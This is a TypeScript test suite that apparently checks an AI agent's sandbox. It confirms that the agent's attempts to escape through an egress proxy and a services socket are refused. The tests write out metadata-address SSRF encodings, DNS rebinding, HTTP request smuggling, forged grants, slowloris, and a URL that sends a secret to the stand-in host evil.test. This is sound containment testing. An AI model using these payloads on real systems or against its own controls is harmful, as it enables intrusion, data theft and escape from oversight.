import { expect } from "vitest";
import { tempt } from "../sandbox/malicious.ts";
import type { Behaviour } from "./behaviour.ts";
import { deed } from "./behaviour.ts";
import { GRANT } from "./world.ts";
import type { World } from "./world.ts";

const PROXY = { host: "127.0.0.1", port: 3128 };
const REFUSED = /HTTP\/1\.1 (400|403|502)/;

function connect(id: string, tries: string, authority: string): Behaviour {
  const bytes = `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`;
  return deed(id, [tries, "refused, and the refusal is recorded"], "talk", { to: PROXY, bytes }, REFUSED);
}

/** The way out. Listed are names that resolve to what they must not: only the address says so. */
export const PROXY_FORMS: readonly Behaviour[] = [
  connect("proxy-metadata", "reach the metadata address, which is listed, through the proxy", "169.254.169.254:80"),
  connect("proxy-decimal", "write the address as one number", "2852039166:80"),
  connect("proxy-octal", "write the address in octal", "0251.0376.0251.0376:80"),
  connect("proxy-hex", "write the address in hex", "0xa9fea9fe:80"),
  connect("proxy-short", "leave out a part of the address", "169.254.43518:80"),
  connect("proxy-mapped", "write the address inside IPv6", "[::ffff:169.254.169.254]:80"),
  connect("proxy-mapped-hex", "the same in hex", "[::ffff:a9fe:a9fe]:80"),
  connect("proxy-nat64", "the same behind NAT64's prefix", "[64:ff9b::a9fe:a9fe]:80"),
  connect("proxy-userinfo", "put the listed name before an @", "listed.test@169.254.169.254:80"),
  connect("proxy-percent", "hide the address behind percent signs", "%31%36%39.254.169.254:80"),
  connect("proxy-name", "use a listed name that points to the metadata address", "meta.test:80"),
  connect("proxy-loopback-name", "use a listed name that points to the host's loopback", "loop.test:80"),
  connect("proxy-mixed", "use a listed name with one public address and one private", "mixed.test:80"),
  connect("proxy-rebinding", "use a listed name whose address changes after the check", "rebind.test:80"),
  connect("proxy-unlisted", "reach a host that is not listed", "evil.test:443"),
  connect("proxy-port", "reach another port of a listed host", "listed.test:22"),
  connect("proxy-suffix", "reach a host whose name only ends like a listed one", "evil-listed.test:80"),
  deed(
    "proxy-url",
    ["send a secret in a URL to a host that is not listed", "refused"],
    "fetch",
    { url: "http://evil.test/?q=c2VjcmV0" },
    /"status":403/,
  ),
  deed(
    "proxy-host-header",
    ["name a listed host in the header and another in the URL", "the URL counts"],
    "talk",
    { to: PROXY, bytes: "GET http://evil.test/ HTTP/1.1\r\nHost: listed.test\r\n\r\n" },
    REFUSED,
  ),
  deed(
    "proxy-origin-form",
    ["use the proxy as a server", "refused"],
    "talk",
    { to: PROXY, bytes: "GET /v1/agents HTTP/1.1\r\nHost: listed.test\r\n\r\n" },
    REFUSED,
  ),
  deed(
    "proxy-smuggling",
    ["hide a second request in a body", "one answer at most"],
    "talk",
    {
      to: PROXY,
      bytes:
        "POST http://evil.test/ HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://listed.test/ HTTP/1.1\r\nHost: x\r\n\r\n",
    },
    /^(?!.*HTTP\/1\.1 \d+.*HTTP\/1\.1 \d+).*$/,
  ),
];

function ask(id: string, tries: string, bytes: string | readonly string[], expected: RegExp): Behaviour {
  return {
    id,
    tries,
    holds: "refused at the door",
    attempt: async (world) => {
      const before = world.served.length;
      const loot = await tempt(world.agent, "talk", { to: "services", bytes });
      expect(JSON.stringify(loot), tries).toMatch(expected);
      expect(world.served.slice(before), "requests behind the door").toEqual([]);
      return loot;
    },
  };
}

/** As the first, but it gets as far as the check of the grant, which it does not pass. */
function askWith(id: string, tries: string, request: string, grant: string): Behaviour {
  return {
    id,
    tries,
    holds: "the grant is checked, for this instance and no other",
    attempt: async (world) => {
      const before = world.served.length;
      const bytes = `${request} HTTP/1.1\r\nHost: x\r\nAuthorization: Grant ${grant}\r\nConnection: close\r\n\r\n`;
      const loot = await tempt(world.agent, "talk", { to: "services", bytes });
      expect(JSON.stringify(loot), tries).toMatch(/HTTP\/1\.1 40[0-9]/);
      for (const served of world.served.slice(before)) expect(served).toBe(`agent ${grant}`);
      return loot;
    },
  };
}

const get = (path: string, headers = ""): string =>
  `GET ${path} HTTP/1.1\r\nHost: x\r\n${headers}Connection: close\r\n\r\n`;
const held = `Authorization: Grant ${GRANT}\r\n`;

/** The services socket. What a real grant is worth is tried in packages/control. */
export const SERVICES: readonly Behaviour[] = [
  ask("services-no-grant", "ask without a grant", get("/grant"), /403 .*GRANT_REQUIRED/s),
  ask(
    "services-bearer",
    "show another kind of credential",
    get("/grant", "Authorization: Bearer x\r\n"),
    /403 .*GRANT_REQUIRED/s,
  ),
  ask(
    "services-long-grant",
    "show a grant of 12 KB",
    get("/grant", `Authorization: Grant ${"a".repeat(12_000)}\r\n`),
    /403 .*GRANT_REQUIRED/s,
  ),
  askWith("services-forged-grant", "show a grant that it made up", "GET /grant", "acg1_AAAA"),
  askWith(
    "services-claimed-instance",
    "claim to be a sibling in the address",
    "GET /grant?instanceId=sibling",
    "acg1_of-sibling",
  ),
  ask(
    "services-headers",
    "send a header without end",
    [`GET /grant HTTP/1.1\r\nHost: x\r\nX: ${"y".repeat(64_000)}`],
    /"how":"(closed|ECONNRESET|EPIPE)"/,
  ),
  ask(
    "services-slash",
    "hide a separator in a segment",
    get("/workspace/files/a%2f..%2fb", held),
    /400 .*PATH_INVALID/s,
  ),
  ask("services-encoding", "break the encoding", get("/workspace/files/%zz", held), /400 .*INVALID_REQUEST/s),
  ask(
    "services-platform-api",
    "reach the platform's own API by this socket",
    get("/v1/agents", held),
    /404 .*ROUTE_NOT_FOUND/s,
  ),
  ask("services-absolute", "use the socket as a proxy", get("http://169.254.169.254/", held), /40[04] /),
  ask(
    "services-double-length",
    "give two lengths",
    "POST /scope-requests HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Length: 3\r\n\r\n{}",
    /"text":""|400 /,
  ),
  ask(
    "services-smuggling",
    "give a length and chunks, and hide a request",
    `POST /scope-requests HTTP/1.1\r\nHost: x\r\n${held}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${get("/grant", held)}`,
    /"text":""|400 /,
  ),
  ask(
    "services-huge-json",
    "send 8 MiB of JSON",
    `POST /scope-requests HTTP/1.1\r\nHost: x\r\n${held}Content-Length: 8388608\r\n\r\n{`,
    /400 |413 |"how":"(closed|ECONNRESET)"/,
  ),
  ask("services-garbage", "speak another protocol", "\x16\x03\x01\x00\xa5\x01\x00\x00", /"text":""|400 /),
  {
    id: "services-upgrade",
    tries: "make another protocol of the connection",
    holds: "it stays HTTP, and ends with its answer",
    attempt: async ({ agent }) => {
      const bytes = get("/grant", `${held}Upgrade: websocket\r\n`).replace("Connection: close", "Connection: Upgrade");
      const loot = await tempt(agent, "talk", { to: "services", bytes });
      expect(JSON.stringify(loot)).not.toContain("HTTP/1.1 101");
      return loot;
    },
  },
  ask(
    "services-identity-header",
    "get an identity token as a tricked library would",
    get("/identity-token?audience=https://x"),
    /400 .*INVALID_PARAMS/s,
  ),
  {
    id: "services-slowloris",
    tries: "hold every connection open and say nothing",
    holds: "its own socket is full; a sibling's still answers, and its own again afterwards",
    attempt: async (world) => {
      const open = await tempt(world.agent, "hangOn", { count: 300 });
      const sibling = await tempt(world.sibling, "talk", { to: "services", bytes: get("/grant") });
      expect(JSON.stringify(sibling)).toMatch(/403 .*GRANT_REQUIRED/s);
      await tempt(world.agent, "letGo");
      await answersAgain(world);
      return open;
    },
  },
];

async function answersAgain({ agent }: World): Promise<void> {
  await expect
    .poll(async () => JSON.stringify(await tempt(agent, "talk", { to: "services", bytes: get("/grant") })))
    .toMatch(/403 .*GRANT_REQUIRED/s);
}
